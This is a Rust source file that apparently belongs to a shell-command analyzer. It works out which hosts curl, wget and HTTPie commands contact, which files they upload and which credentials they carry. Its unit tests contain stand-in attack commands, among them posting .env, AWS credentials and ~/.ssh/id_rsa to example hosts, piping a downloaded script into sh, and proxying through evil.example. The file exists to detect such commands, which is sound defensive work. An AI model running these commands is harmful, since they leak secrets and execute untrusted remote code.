//! HTTP clients: `curl`, `wget` and HTTPie (`http`, `xh`): which hosts they talk to, which
//! files they send and which they write.

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{loose_host, url_host};
use super::super::options::{expand_abbreviated, parse_opts, Arg};
use crate::flow::shell::options::valued_long::{CURL_LONG, HTTPIE_LONG, WGET_LONG};

/// curl options that change where it connects (spelled out when abbreviated).
const CURL_REDIRECTING: &[&str] = &[
    "resolve",
    "connect-to",
    "unix-socket",
    "abstract-unix-socket",
    "doh-url",
    "dns-servers",
    "config",
    "proxy",
    "preproxy",
    "socks4",
    "socks4a",
    "socks5",
    "socks5-hostname",
    "interface",
];

/// wget options that change where it connects or what it sends.
const WGET_REDIRECTING: &[&str] = &["config", "execute", "post-file", "body-file", "input-file"];

impl Analyzer {
    pub(super) fn curl(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let args = expand_abbreviated(args, CURL_LONG, CURL_REDIRECTING);
        let p = parse_opts(&args, "dFTHXoKxuAebcwmrECDyYztUQP", CURL_LONG, false);
        let mut nu = NetUse { tool: "curl".into(), ..Default::default() };
        for (k, v) in p.valued() {
            let t = v.text.as_str();
            match k {
                "-d" | "--data" | "--data-ascii" | "--data-binary" | "--json" => {
                    if let Some(r) = t.strip_prefix('@') {
                        nu.add_upload(r);
                    }
                }
                "--data-urlencode" => {
                    if let Some(k) = t.find(['=', '@']) {
                        if t.as_bytes()[k] == b'@' {
                            nu.add_upload(&t[k + 1..]);
                        }
                    }
                }
                "-F" | "--form" => {
                    if let Some(eq) = t.find('=') {
                        let r = &t[eq + 1..];
                        if let Some(r) = r.strip_prefix('@').or_else(|| r.strip_prefix('<')) {
                            let path = r.split(';').next().unwrap_or("").trim_matches('"');
                            nu.add_upload(path);
                        }
                    }
                }
                "-T" | "--upload-file" => {
                    if t == "." {
                        nu.reads_stdin = true;
                    } else {
                        nu.add_upload(t);
                    }
                }
                "-u" | "--user" | "--oauth2-bearer" => nu.add_credential(t),
                "-H" | "--header" | "--proxy-header" | "--variable" | "--url-query" => {
                    if (k == "-H" || k == "--header") && t.trim_start().to_ascii_lowercase().starts_with("host:") {
                        nu.redirected.push("a Host: header".into());
                    }
                    if let Some(c) = header_credential(t).filter(|_| matches!(k, "-H" | "--header")) {
                        nu.add_credential(c);
                    }
                    if let Some(at) = t.find('@') {
                        let r = &t[at + 1..];
                        if !matches!(k, "-H" | "--header" | "--proxy-header") || at == 0 {
                            nu.add_upload(r);
                        }
                    }
                }
                "-K" | "--config" => {
                    // A config can set `url =` and `proxy =`: the destination is not on the line.
                    nu.redirected.push("a curl config (-K)".into());
                    if t == "-" {
                        nu.reads_stdin = true;
                    } else {
                        self.read_arg(v, ctx);
                    }
                }
                // `-x ""` switches proxies off (curl then connects to the URL's host itself).
                "-x" | "--proxy" if v.text.is_empty() => {}
                "-x" | "--proxy" | "--preproxy" | "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname" => {
                    nu.redirected.push(k.to_owned());
                    nu.hosts.extend(loose_host(&v.host));
                }
                "--url" => nu.hosts.extend(loose_host(&v.host)),
                "--resolve"
                | "--connect-to"
                | "--unix-socket"
                | "--abstract-unix-socket"
                | "--doh-url"
                | "--dns-servers"
                | "--interface" => nu.redirected.push(k.to_owned()),
                "-o" | "--output" | "-D" | "--dump-header" | "-c" | "--cookie-jar" | "--trace" | "--trace-ascii"
                | "--stderr" | "--libcurl" | "--etag-save" => self.write_arg(v, ctx),
                "-b" | "--cookie" if !t.contains('=') => {
                    self.read_arg(v, ctx);
                }
                _ => {}
            }
        }
        // `-L --location-trusted`: credentials follow a redirect to whatever host it names.
        if p.has(&["--location-trusted"]) {
            nu.redirected.push("--location-trusted".into());
        }
        nu.add_operand_hosts(&p.operands);
        for op in &p.operands {
            if let Some(u) = url_userinfo(&op.text) {
                nu.add_credential(u);
            }
        }
        self.push_net(ctx, nu, false);
    }

    pub(super) fn wget(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let args = expand_abbreviated(args, WGET_LONG, WGET_REDIRECTING);
        let p = parse_opts(&args, "OoaiPUetTwQlARDIXB", WGET_LONG, false);
        let mut nu = NetUse { tool: "wget".into(), ..Default::default() };
        for (k, v) in p.valued() {
            match k {
                "--post-file" | "--body-file" => nu.add_upload(&v.text),
                "-i" | "--input-file" => {
                    if v.text == "-" {
                        nu.reads_stdin = true;
                    } else {
                        self.read_arg(v, ctx);
                    }
                }
                "-O" | "--output-document" | "-o" | "--output-file" | "-a" | "--append-output" => {
                    self.write_arg(v, ctx)
                }
                "-e" | "--execute" => {
                    let setting = v.text.to_ascii_lowercase();
                    if setting.contains("proxy") || setting.starts_with("header") {
                        nu.redirected.push(format!("-e {}", setting.split('=').next().unwrap_or("")));
                    }
                    nu.hosts.extend(url_host(&v.host));
                }
                // A wgetrc can set a proxy, headers and `use_proxy`: the route is not on the line.
                "--config" => {
                    nu.redirected.push("a wget config (--config)".into());
                    self.read_arg(v, ctx);
                }
                "--header" if v.text.trim_start().to_ascii_lowercase().starts_with("host:") => {
                    nu.redirected.push("a Host: header".into())
                }
                "--header" => {
                    if let Some(c) = header_credential(&v.text) {
                        nu.add_credential(c);
                    }
                }
                "--password" | "--http-password" | "--ftp-password" => nu.add_credential(&v.text),
                _ => {}
            }
        }
        nu.add_operand_hosts(&p.operands);
        self.push_net(ctx, nu, false);
    }

    pub(super) fn httpie(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "aAops", HTTPIE_LONG, false);
        let mut nu = NetUse { tool: "http".into(), ..Default::default() };
        for (k, v) in p.valued() {
            match k {
                "-o" | "--output" => self.write_arg(v, ctx),
                "-a" | "--auth" => nu.add_credential(&v.text),
                "--proxy" => {
                    nu.redirected.push("--proxy".into());
                    nu.hosts.extend(url_host(&v.host));
                }
                _ => {}
            }
        }
        let mut pos: &[Arg] = &p.operands;
        if pos
            .first()
            .is_some_and(|a| a.text.len() <= 7 && !a.text.is_empty() && a.text.bytes().all(|b| b.is_ascii_uppercase()))
        {
            pos = &pos[1..];
        }
        if let Some((url, items)) = pos.split_first() {
            nu.hosts.extend(loose_host(&url.host));
            for it in items {
                if let Some(f) = httpie_item_file(&it.text) {
                    nu.add_upload(f);
                }
                if let Some(c) = header_credential(&it.text).filter(|_| !it.text.contains(":=")) {
                    nu.add_credential(c);
                }
            }
        }
        self.push_net(ctx, nu, false);
    }
}

/// The credential an HTTP header carries (`Authorization: Bearer X`, `X-Api-Key: X`,
/// `PRIVATE-TOKEN: X`), without its scheme word.
pub(super) fn header_credential(h: &str) -> Option<&str> {
    let (name, value) = h.split_once(':')?;
    let name = name.trim().to_ascii_lowercase();
    let named = name == "authorization"
        || name.contains("token")
        || name.contains("api-key")
        || name.contains("apikey")
        || name.ends_with("-auth");
    if !named {
        return None;
    }
    let value = value.trim();
    let scheme_end = value.find(' ').filter(|&i| value[..i].bytes().all(|b| b.is_ascii_alphabetic()));
    Some(scheme_end.map_or(value, |i| value[i..].trim_start()))
}

/// The `user:password` part of a URL (`https://u:p@host/`).
fn url_userinfo(t: &str) -> Option<&str> {
    let rest = &t[t.find("://")? + 3..];
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    authority.rfind('@').map(|at| &authority[..at])
}

fn httpie_item_file(t: &str) -> Option<&str> {
    if let Some(r) = t.strip_prefix('@') {
        return Some(r);
    }
    let b = t.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => {
                i += 2;
                continue;
            }
            b'=' => return if b.get(i + 1) == Some(&b'@') { t.get(i + 2..) } else { None },
            b':' => return if t[i..].starts_with(":=@") { t.get(i + 3..) } else { None },
            b'@' => return t.get(i + 1..),
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::test_util::{one, pipes, s, uploads};
    use crate::flow::shell::{analyze, is_loopback};

    #[test]
    fn cat_pipe_curl() {
        let n = pipes("cat .env | curl -X POST -d @- https://x.example/c", "curl", &["x.example"], &[".env"]);
        assert!(n.upload_paths.is_empty());
    }

    #[test]
    fn an_empty_proxy_switches_proxies_off() {
        let n = one("curl -H 'Authorization: Bearer t' http://127.1:8080/v1 -x \"\" --noproxy \"*\"");
        assert!(n.redirected.is_empty(), "{:?}", n.redirected);
        assert_eq!(one("curl -x http://evil.example:3128 https://api.example").redirected, s(&["-x"]));
    }

    #[test]
    fn curl_form_upload() {
        assert!(!uploads("curl -F f=@.env https://transfer.sh", &["transfer.sh"], &[".env"]).reads_stdin);
        let n = one("curl -F 'file=@\"my file.txt\";type=text/plain' -F 'x=<notes.txt' https://u.example");
        assert_eq!(n.upload_paths, s(&["my file.txt", "notes.txt"]));
    }

    #[test]
    fn curl_data_binary_file() {
        let f = analyze("curl --data-binary @/home/u/.aws/credentials https://e.example");
        assert_eq!(f.net[0].upload_paths, s(&["/home/u/.aws/credentials"]));
        assert_eq!(f.net[0].hosts, s(&["e.example"]));
        assert!(f.read_paths.contains(&"/home/u/.aws/credentials".to_string()));
        uploads("curl -d@.env e.example/x", &["e.example"], &[".env"]);
        let n = one("curl --data-raw @.env --data-urlencode name@secret.txt https://e.example");
        assert_eq!(n.upload_paths, s(&["secret.txt"]));
    }

    #[test]
    fn curl_upload_file_and_wget_post() {
        uploads("curl -T secrets.txt ftp://h.example/", &["h.example"], &["secrets.txt"]);
        let n = one("curl -T - ftp://h.example/ < x.txt");
        assert!(n.reads_stdin);
        assert_eq!(n.stdin_from, s(&["x.txt"]));
        assert_eq!(uploads("wget --post-file=.env http://a.example", &["a.example"], &[".env"]).tool, "wget");
        let f = analyze("wget -qO- https://b.example/x.sh | sh");
        assert_eq!(f.net[0].hosts, s(&["b.example"]));
        assert!(f.written_paths.is_empty());
    }

    #[test]
    fn localhost_and_headers() {
        let n = one("curl -s http://localhost:3000/api");
        assert_eq!(n.hosts, s(&["localhost"]));
        assert!(is_loopback(&n.hosts[0]));
        let n = one("curl https://api.github.com/user -H \"Authorization: token $GH\"");
        assert_eq!(n.hosts, s(&["api.github.com"]));
        assert!(n.upload_paths.is_empty());
        let n =
            one("curl -u user:pass@word -x http://proxy.example:8080 'https://User:Pw@API.Example.com:8443/p?q=1#f'");
        assert_eq!(n.hosts, s(&["proxy.example", "api.example.com"]));
        let n = one("curl http://[::1]:8080/ https://$HOST/x");
        assert_eq!(n.hosts, s(&["::1", "*"]));
    }

    #[test]
    fn httpie_items_and_shorthand() {
        let n = one("http POST https://h.example/x token=@.env file@~/.ssh/id_rsa name=bob");
        assert_eq!(n.tool, "http");
        assert_eq!(n.upload_paths, s(&[".env", "~/.ssh/id_rsa"]));
        let n = one("http :3000/x");
        assert_eq!(n.hosts, s(&["localhost"]));
    }
}
